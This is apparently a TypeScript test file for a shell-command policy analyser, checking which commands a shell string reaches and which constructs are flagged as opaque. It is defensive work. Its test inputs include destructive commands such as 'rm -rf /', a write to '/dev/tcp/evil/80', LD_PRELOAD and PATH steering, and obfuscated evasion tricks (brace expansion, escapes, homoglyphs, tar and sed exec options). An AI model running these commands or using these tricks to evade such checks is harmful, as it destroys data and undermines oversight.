import * as fc from 'fast-check';
import { analyse } from '../../../src/policy/shell/analyse.ts';
import { showWords } from '../../../src/policy/shell/word.ts';

const seen = (text: string): string[] =>
  analyse(text).reached.map(({ command, via }) =>
    [...via.map((one) => `${one}>`), showWords(command.words)].join(' '),
  );
const codes = (text: string): string[] => [...new Set(analyse(text).opacities.map(({ code }) => code))];

test.each<[string, string[]]>([
  ['a && b || c; d | e |& f & g', ['a', 'b', 'c', 'd', 'e', 'f', 'g']],
  ['a\nb', ['a', 'b']],
  ['(a; b); { c; }', ['a', 'b', 'c']],
  ['if a; then b; elif c; then d; else e; fi', ['a', 'b', 'c', 'd', 'e']],
  ['for x in $(a); do b $x; done', ['a', 'b $x']],
  ['while a; do b; done; until c; do d; done', ['a', 'b', 'c', 'd']],
  ['case $(a) in x) b;; *) c;; esac', ['a', 'b', 'c']],
  ['echo $(a) `b` <(c) >(d) "$(e)"', ['echo $(a) `b` <(c) >(d) $(e)', 'a', 'b', 'c', 'd', 'e']],
  ['x=$(a)', ['', 'a']],
  ['echo ${x:-$(a)}', ['echo ${x:-$(a)}', 'a']],
  ['cat <<E\n$(a)\nE', ['cat', 'a']],
  ["cat <<'E'\n$(a)\nE", ['cat']],
  ["r\\m \"-r\"'f' $'\\x61'", ['rm -rf a']],
  ['{rm,-rf,/}', ['rm -rf /']],
  ['echo {1..3}', ['echo 1 2 3']],
  ['{,rm} x', ['rm x']],
  ['echo {01..10..3}', ['echo 01 04 07 10']],
  ['echo {3..1} {a..e..2} {-1..1..-1}', ['echo 3 2 1 a c e -1 0 1']],
  ['ls -exe{c..c..1} x', ['ls -exec x']],
  ["echo $'-exe\\x{63}'", ['echo -exec']],
  ["cat <<$'E\\x4fF'\na\nEOF\nls", ['cat', 'ls']],
  ['cat <<"E F"\na\nE F\nls', ['cat', 'ls']],
  ['OPTIND=1; SECONDS=0; ls', ['', '', 'ls']],
  ['ls {v}>f', ['ls']],
  ['[[ $x == @(a|b) ]] && ls', ['ls']],
  ['ls "$" $ cost$', ['ls $ $ cost$']],
  ['if a & then b; fi # x (', ['a', 'b']],
  ['cat <<A <<B # (\na (\nA\nb $(c)\nB\nd', ['cat', 'c', 'd']],
  ['git config --file x --get a.b', ['git config --file x --get a.b']],
  ['time -p make', ['make']],
  ['! grep x y', ['grep x y']],
])('%j runs %j', (text, commands) => {
  expect(seen(text)).toEqual(commands);
  expect(codes(text)).toEqual([]);
});

test.each<[string, string[]]>([
  ['sudo -u root systemctl restart nginx', ['sudo> systemctl restart nginx']],
  ['doas -u www ls', ['doas> ls']],
  ['timeout -k 5 30s nice -n 3 make x', ['timeout> nice -n 3 make x', 'timeout> nice> make x']],
  ['env A=b ls', ['env> ls']],
  ['env =1 ls', ['env> ls']],
  ['bash -lc "rm -rf / && ls"', ['bash> rm -rf /', 'bash> ls']],
  ['bash -o pipefail -c "a | b"', ['bash> a', 'bash> b']],
  ['eval "a; b"', ['eval> a', 'eval> b']],
  ['su - deploy -c "a; b"', ['su> a', 'su> b']],
  ['xargs -n1 rm -rf', ['xargs> rm -rf «input»']],
  ["xargs -I% sh -c 'a' %", ['xargs> sh -c a %', 'xargs> sh> a']],
  ['find . -exec rm {} \\; -exec ls {} +', ['find> rm {}', 'find> ls {}']],
  ['ssh -p 22 deploy@host rm -rf /', ['ssh> rm -rf /']],
  ['docker exec -it api bash', ['docker> bash']],
  ['docker compose -f x.yml exec -T web rails db:migrate', ['docker> rails db:migrate']],
  ['kubectl -n prod exec pod -c app -- sh -c "a"', ['kubectl> sh -c a', 'kubectl> sh> a']],
  ['watch -n 2 docker ps', ['watch> docker ps']],
  ['parallel rm ::: a b', ['parallel> rm «input»']],
  ['flock /tmp/l -c "a"', ['flock> a']],
  ['busybox rm x', ['busybox> rm x']],
  ['aws-vault exec prod -- terraform apply', ['aws-vault> terraform apply']],
])('inside of %j: %j', (text, inside) => {
  expect(seen(text).slice(1)).toEqual(inside);
  expect(codes(text)).toEqual([]);
});

test.each<[string, string]>([
  ['echo "x', 'syntax-error'],
  ['ls ;; rm', 'syntax-error'],
  ['cat <<E\nx', 'syntax-error'],
  ['a\0b', 'syntax-error'],
  ['ls 1>(rm x)', 'ambiguous-word'],
  ['echo 12<(rm x)', 'ambiguous-word'],
  ['A>(rm)B', 'ambiguous-word'],
  ['a[1 2]$(rm x)', 'ambiguous-word'],
  ['>&-rm', 'ambiguous-word'],
  ['$\\\nx', 'ambiguous-word'],
  ['time -,p B', 'ambiguous-word'],
  ['git {},-ccore.pager=reboot} log', 'ambiguous-word'],
  ["'x'{},B}", 'ambiguous-word'],
  ['ls \\', 'ambiguous-word'],
  ['foo(bar', 'syntax-error'],
  ['until a; do break&; done', 'syntax-error'],
  ['ls $(x=(\\`rm\\`); a)', 'ambiguous-word'],
  ['export -n RANDOM=x', 'steering-variable'],
  ['ls $(foo (bar)', 'syntax-error'],
  ['ls @(a)', 'syntax-error'],
  ['ls ${}', 'syntax-error'],
  ['time && ls', 'syntax-error'],
  ["cat <<$'E\\x{4f}F'\nx\nE\\x{4f}F", 'ambiguous-word'],
  ['cat <<E\n$[1\nE', 'ambiguous-word'],
  ['cat <<E\n`ls\nE', 'syntax-error'],
  ['cat <<E\n`ls \\` x\nE', 'syntax-error'],
  ['cat <<E\n$(ls\nE', 'syntax-error'],
  ['cat <<E\n${X\nE', 'syntax-error'],
  ['cat <<E\n$((1\nE', 'syntax-error'],
  ['ls {Z..a}', 'ambiguous-word'],
  ['ls {$X,a}b', 'ambiguous-word'],
  ['ls >1>f', 'ambiguous-word'],
  ['ls 99999999999>f', 'ambiguous-word'],
  ['ls {a[x]}<f', 'arithmetic'],
  ["RANDOM='a[$(rm)]'", 'steering-variable'],
  ["declare 'PATH[0]=x'", 'steering-variable'],
  ['OPTIND=$X', 'steering-variable'],
  ['for KUBECONFIG in x; do ls; done', 'steering-variable'],
  [">& '<(rm x)'", 'risky-expansion'],
  ['echo ${x@P}', 'risky-expansion'],
  ['echo ${!x}', 'risky-expansion'],
  ['echo ${x:=y}', 'risky-expansion'],
  ['echo $((x))', 'arithmetic'],
  ['echo ${a[$i]}', 'arithmetic'],
  ['echo ${a:$x}', 'arithmetic'],
  ['a[$(rm)]=1', 'arithmetic'],
  ['((x))', 'arithmetic'],
  ['[[ $x -eq 1 ]]', 'arithmetic'],
  ["test -v 'a[$(rm)]'", 'arithmetic'],
  ['let x=1', 'arithmetic'],
  ['f() { ls; }; f', 'function-definition'],
  ['coproc ls', 'coprocess'],
  ['$X y', 'dynamic-name'],
  ['"$(which ls)" y', 'dynamic-name'],
  ['sudo $X', 'wrapper-options'],
  ['eval $X', 'dynamic-script'],
  ['bash -c "$X"', 'dynamic-script'],
  ['xargs -I{} sh -c "echo {}"', 'dynamic-script'],
  ['PATH=/x ls', 'steering-variable'],
  ['env LD_PRELOAD=x ls', 'steering-variable'],
  ['export GIT_SSH_COMMAND=x', 'steering-variable'],
  ['read PATH', 'steering-variable'],
  ['for PATH in a; do ls; done', 'steering-variable'],
  ['declare -n x=PATH', 'shell-state'],
  ['source x', 'shell-state'],
  ['. x', 'shell-state'],
  ["trap 'rm x' DEBUG", 'shell-state'],
  ['alias ls=rm', 'shell-state'],
  ['enable -f x y', 'shell-state'],
  ['echo x > /dev/tcp/evil/80', 'network-device'],
  ['sudo bash <<E\nrm\nE', 'interpreter-input'],
  ['python3 <<< "x"', 'interpreter-input'],
  ['env -S "ls -l"', 'env-split-string'],
  ['busybox sh -c ls', 'applet'],
  ['sudo --zzz echo rm', 'wrapper-options'],
  ['ssh -o ProxyCommand=rm host ls', 'remote-options'],
  ['tar --checkpoint-act=exec=sh -cf x y', 'runs-through-option'],
  ['git -c core.pager=x log', 'runs-through-option'],
  ['sed -e "s/a/b/e" f', 'runs-through-option'],
  ['ls\u200b -l', 'hidden-name'],
  ['\u0435cho hi', 'hidden-name'],
  [Array.from({ length: 300 }, () => 'true').join('; '), 'too-many-commands'],
  [`echo ${'x'.repeat(17_000)}`, 'too-long'],
])('%j cannot be known: %s', (text, code) => {
  expect(codes(text)).toContain(code);
});

test('it never throws, whatever the text', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
      expect(Array.isArray(analyse(text).reached)).toBe(true);
    }),
    { numRuns: 2000 },
  );
});

test('nesting without end is too deep, not a fault', () => {
  for (const text of [
    `${'$('.repeat(3000)}a${')'.repeat(3000)}`,
    `${'('.repeat(5000)}a`,
    `${'sudo '.repeat(2000)}a`,
  ])
    expect(codes(text).length).toBeGreaterThan(0);
});
